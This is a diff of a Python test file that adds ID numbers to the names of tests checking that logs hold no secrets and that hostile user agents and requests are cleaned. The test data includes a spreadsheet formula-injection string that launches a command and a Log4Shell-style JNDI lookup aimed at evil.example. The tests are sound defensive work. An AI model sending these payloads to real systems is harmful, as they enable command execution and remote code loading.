@@ -101,7 +101,7 @@ def whole_files(directory: Path) -> bytes:
     return b"".join(path.read_bytes() for path in sorted(directory.rglob("*")) if path.is_file())
 
 
-def test_no_secret_and_no_personal_data_is_kept_or_logged_in_clear(
+def test_t_19_no_secret_and_no_personal_data_is_kept_or_logged_in_clear(
     open_api: OpenApi, database: Database, tmp_path: Path, log: io.StringIO
 ):
     api = open_api()
@@ -147,7 +147,7 @@ def test_a_failing_statement_is_logged_without_what_it_was_to_write(
     assert USER_ID not in log.getvalue()
 
 
-def test_a_hostile_user_agent_is_kept_cut_and_cleaned_and_breaks_no_line(api: Api, log: io.StringIO):
+def test_t_08_a_hostile_user_agent_is_kept_cut_and_cleaned_and_breaks_no_line(api: Api, log: io.StringIO):
     for user_agent in (HOSTILE, "a" * 512 + "\x07", "é" * 4000, "=cmd|' /C calc'!A1"):
         alice = api.sign_in(user_agent=user_agent)
         [shown] = [s["user_agent"] for s in api.sessions(alice.bearer) if s["is_current"]]
@@ -157,7 +157,7 @@ def test_a_hostile_user_agent_is_kept_cut_and_cleaned_and_breaks_no_line(api: Ap
     assert "jndi" not in log.getvalue()
 
 
-def test_a_hostile_request_is_one_line_of_the_log(api: Api, log: io.StringIO):
+def test_t_08_a_hostile_request_is_one_line_of_the_log(api: Api, log: io.StringIO):
     alice = api.sign_in()
     hostile = {
         "User-Agent": "\x1b[31m${jndi:ldap://evil.example}",
